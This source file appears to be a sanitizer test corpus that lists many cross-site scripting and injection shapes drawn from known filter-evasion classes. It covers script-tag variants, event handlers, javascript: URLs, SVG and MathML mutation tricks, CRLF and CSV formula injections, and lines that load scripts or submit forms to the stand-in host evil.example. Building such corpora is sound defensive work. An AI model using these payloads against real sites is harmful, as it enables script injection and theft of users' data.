// Ways to smuggle a script into a page, by their shapes: what published collections of them have in common, each once.
//
// Every shape would call `alert` or set `window.hit`. None is copied from a list: the classes are those of OWASP's page about
// evading filters, of PortSwigger's and of html5sec's.

const RUN = "window.hit=1";
const JS = `javascript:${RUN}`;

/** Event handlers on elements that are allowed, and on some that are not. */
const handlers = [
  ...["onclick", "onmouseover", "onfocus", "onpointerenter", "onbeforetoggle", "onanimationend"].map((on) => `<span lang="en" ${on}="${RUN}" tabindex=0 autofocus>a</span>`),
  `<details open ontoggle="${RUN}"><summary>a</summary>b</details>`,
  `<img src=none onerror=${RUN}>`,
  `<img src=none onerror\n=\n${RUN}>`,
  `<img/src=none/onerror=${RUN}>`,
  `<img src="none"onerror="${RUN}">`,
  `<IMG SRC=none ONERROR=${RUN}>`,
  `<img src=none onerror=&#119;indow.hit=1>`,
  `<body onload=${RUN}>`,
  `<video src=none onerror=${RUN}></video><audio src=none onerror=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}><textarea autofocus onfocus=${RUN}></textarea><button autofocus onfocus=${RUN}>a</button>`,
  `<marquee onstart=${RUN}>a</marquee>`,
  `<object data=none onerror=${RUN}></object><embed src=none onload=${RUN}>`,
  `<dialog open onclose=${RUN}><form method=dialog><button>a</button></form></dialog>`,
  `<p onclick\0=${RUN}>a</p><p \x0bonclick=${RUN}>a</p><p/onclick=${RUN}>a</p>`,
  `<xss onafterscriptexecute=${RUN} contenteditable onfocus=${RUN} autofocus>a</xss>`,
];

/** Scripts as they are, and as a careless filter would leave them. */
const scripts = [
  `<script>${RUN}</script>`,
  `<SCRIPT>${RUN}</SCRIPT >`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<<script>${RUN}//<</script>`,
  `<script\x20type="text/javascript">${RUN}</script>`,
  `<script/xss>${RUN}</script>`,
  `<script src=//evil.example/x.js></script>`,
  `<script src="data:text/javascript,${RUN}"></script>`,
  `<script type=module>import "data:text/javascript,${RUN}"</script>`,
  `<script>\n\n${RUN}\n\n</script>`,
  `<script`,
  `<script>${RUN}`,
  `\`a\`<script>${RUN}</script>`,
  `a <script>${RUN}</script> b`,
  `<iframe src="${JS}"></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<frameset onload=${RUN}><frame src="${JS}"></frameset>`,
  `<base href="https://evil.example/"><base target=_blank>`,
  `<meta http-equiv=refresh content="0;url=${JS}">`,
  `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
  `<link rel=stylesheet href=//evil.example/x.css><link rel=prefetch href=//evil.example/>`,
  `<link rel=import href=data:text/html,x>`,
  `<style>@import "//evil.example/x.css";p{background:url(//evil.example/y)}</style>`,
  `<p style="background:url(//evil.example/z);behavior:url(x)">a</p>`,
  `<form action=https://evil.example/><input name=q><button formaction="${JS}">a</button></form>`,
  `<isindex type=image src=none onerror=${RUN}>`,
  `<applet code=x></applet><object type=text/html data="data:text/html,<script>${RUN}</script>"></object>`,
  `<portal src=//evil.example></portal><fencedframe></fencedframe>`,
];

/** Addresses that would run, in every place where Markdown has one. */
const targets = [
  JS, `JaVaScRiPt:${RUN}`, ` ${JS}`, `java\tscript:${RUN}`, `&#106;avascript:${RUN}`, `&#x6A&#x61vascript:${RUN}`, `javascript&colon;${RUN}`,
  `java&Tab;script:${RUN}`, `java&NewLine;script:${RUN}`, `&#1;${JS}`, `\\javascript:${RUN}`, `javascript\\:${RUN}`, `%6Aavascript:${RUN}`,
  `javascript://example.org/%0A${RUN}`, `data:text/html,<script>${RUN}</script>`, "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  `data:image/svg+xml,<svg onload=${RUN}>`, `vbscript:msgbox(1)`, `VBSCRIPT:x`, `livescript:x`, `mocha:x`, `jar:x`, `view-source:javascript:x`, `feed:${JS}`,
  `blob:null/x`, `filesystem:x`, `file:///etc/passwd`, `ms-msdt:/id`, `//evil.example/`, `/\\evil.example/`, `\\\\evil.example`, `/&Tab;/evil.example/`,
  `https:evil.example`, `https:/evil.example`, `http://user:pass@evil.example/`, `x\u2028:y`, "\u0000javascript:x", "\u200bjavascript:x",
];
/** As a picture they would be loaded, which `D807` refuses even in a preview. */
const elsewhere = /^(\/\/|\/\\|\\\\|https?:|\/&Tab;)/;
const addresses = targets.flatMap((target) => [
  ...(elsewhere.test(target) ? [] : [`![a](<${target}>)`]),
  `[a](<${target}>)`, `[a](${target})`, `[a][r]\n\n[r]: <${target}>`, `<${target}>`, `[![a](none.png)](<${target}>)`,
  `<a href="${target}">a</a>`, `<q cite="${target}">a</q>`,
]);

/** Out of an attribute. */
const breakouts = ['"', "'", "`", "&quot;", "\\\"", "\u0000\""].flatMap((quote) => [
  `[a](none "${quote}onmouseover=${RUN} x=${quote}")`,
  `![${quote}onerror=${RUN} x=${quote}](none.png)`,
  `![${quote}><img src=x onerror=${RUN}>](none.png "${quote}><script>${RUN}</script>")`,
  `<abbr title="${quote}><script>${RUN}</script>">a</abbr>`,
  `<abbr title=${quote}><script>${RUN}</script>>a</abbr>`,
  `[a](<none${quote}onclick=${RUN}>)`,
  `[a](https://example.org/${quote}onclick=${RUN})`,
]);

/** What a parser reads in one way and a browser, which reads what the first one wrote, in another. */
const mutations = [
  `<svg><script>${RUN}</script></svg>`,
  `<svg/onload=${RUN}>`,
  `<svg><a xlink:href="${JS}"><text y=20>a</text></a></svg>`,
  `<svg><animate attributeName=href values="${JS}" /><set attributeName=onload to=${RUN} /></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN}></svg>#x"/></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>${RUN}</script>"></iframe></foreignObject></svg>`,
  `<svg><style><img src=x onerror=${RUN}></style></svg>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<math><maction actiontype=statusline xlink:href="${JS}">a</maction></math>`,
  `<math><annotation-xml encoding="text/html"><script>${RUN}</script></annotation-xml></math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  `<template><script>${RUN}</script></template><template shadowrootmode=open><script>${RUN}</script></template>`,
  `<title><a title="</title><script>${RUN}</script>">`,
  `<textarea><a title="</textarea><script>${RUN}</script>">`,
  `<xmp><a title="</xmp><script>${RUN}</script>">`,
  `<noembed><a title="</noembed><script>${RUN}</script>"><noframes><a title="</noframes><script>${RUN}</script>">`,
  `<plaintext><script>${RUN}</script>`,
  `<!--><script>${RUN}</script>-->`,
  `<!-- --!><script>${RUN}</script> -->`,
  `<!-- a <!-- b --> <script>${RUN}</script> -->`,
  `<!--[if IE]><script>${RUN}</script><![endif]-->`,
  `<![CDATA[<script>${RUN}</script>]]>`,
  `<?xml version="1.0"?><?php <script>${RUN}</script> ?>`,
  `<!DOCTYPE x [<!ENTITY y "<script>${RUN}</script>">]>&y;`,
  `<!x onload=${RUN}><script>${RUN}</script>`,
  `</p></main></body></html><script>${RUN}</script>`,
  `</title></style></textarea></script><script>${RUN}</script>`,
  `<details><summary>a</details></summary><mark></p><span lang=en></details>`,
  `<table><tr><td><mark></table><script>${RUN}</script>`,
  `<b><p><i></b><mark><p></i></mark><script>${RUN}</script>`,
  `&lt;script&gt;${RUN}&lt;/script&gt; &amp;lt;script&amp;gt;`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `\u00bcscript\u00be${RUN}\u00bc/script\u00be \uff1cscript\uff1e${RUN}\uff1c/script\uff1e`,
  `<ſcript>${RUN}</ſcript><svg><ſtyle></svg>`,
];

/** Markdown's own corners. */
const corners = [
  `\`\`\`html" onclick="${RUN}\n<script>${RUN}</script>\n\`\`\``,
  `~~~ "><script>${RUN}</script>\n~~~`,
  `    <script>${RUN}</script>`,
  `| a | <script>${RUN}</script> |\n|:-:|---|\n| [x](${JS}) | ![y" onerror=${RUN} ](none) |`,
  `> <script>\n> ${RUN}\n</script>`,
  `- <script>\n- ${RUN}\n</script>`,
  `1. <span lang="en\n2. onclick=${RUN}">`,
  `## <script>${RUN}</script> {#x onclick=${RUN}}`,
  `a\n<script>\n===\n${RUN}\n</script>\n---`,
  `[a]: ${JS}\n[A] [a][] [b][a] ![c][a]`,
  `[^1]\n\n[^1]: <script>${RUN}</script>`,
  `[a <script>${RUN}</script>](none)`,
  `[![a](none)<img src=x onerror=${RUN}>](none)`,
  `*a <img src=x onerror=*${RUN}*>*`,
  `\\<script>${RUN}\\</script>`,
  `<script <b>${RUN}</script </b>`,
  `<https://example.org/"onclick="${RUN}>`,
  `<a@example.org"onclick=${RUN}>`,
  `<!-- prospectus: allow <script>${RUN}</script> -->`,
  `{{ ${RUN} }} {% include "x" %} {# x #} {{ "<script>" | safe }}`,
  `%{x} $\{${RUN}} #{x} <%= x %> [[x]] @@x`,
];

/** Names that would stand in the place of what scripts look up: properties of `document`, of `window`, of ours. */
const clobbering = ["plan", "plan-words", "plan-link", "plan-said", "plan-undo", "search", "results", "find", "main", "cookie", "body", "forms", "location", "getElementById", "__proto__", "constructor", "top", "name"].flatMap((name) => [
  `## ${name}`,
  `<span lang=en id="${name}" name="${name}" data-plan="aaaaaaaa 0 2027-01-12 open" data-title=x data-line=y>a</span>`,
  `<img name=${name} id=${name} src=none><form name=${name}><input name=children></form><a id=${name} name=href href="${JS}">a</a>`,
]);

/** Pictures of another host, in each way that an address can lead there. */
export const loads = targets.filter((target) => elsewhere.test(target)).map((target) => `![a](<${target}>)`);

/** Every shape of a text. */
export const shapes = [...scripts, ...handlers, ...addresses, ...breakouts, ...mutations, ...corners, ...clobbering];

/** Shapes for a field of a record: words that go into pages, addresses, JSON, feeds, calendars and tables. */
export const words = [
  `</script><script>${RUN}</script>`,
  `"><img src=x onerror=${RUN}>`,
  `'-${RUN}-'`,
  `" onmouseover="${RUN}`,
  `<b>a</b>&lt;script&gt;`,
  `{{ 7 * 7 }}{% raw %}`,
  `=HYPERLINK("https://evil.example","a")`,
  `+1+1`, `-1+1`, `@SUM(1)`, `\tb=1`,
  `a\nBEGIN:VEVENT\nX-ALT-DESC;FMTTYPE=text/html:<script>${RUN}</script>`,
  `a\r\nSet-Cookie: a=b\r\n\r\n<script>${RUN}</script>`,
  `]]><script>${RUN}</script>`,
  `--><script>${RUN}</script>`,
  `\u2028\u2029\u202e\u2066a`,
  JS,
  `%0d%0aX: y`,
  `\${${RUN}}`,
  `$& $1 $\``,
  `%1 %2 %`,
];
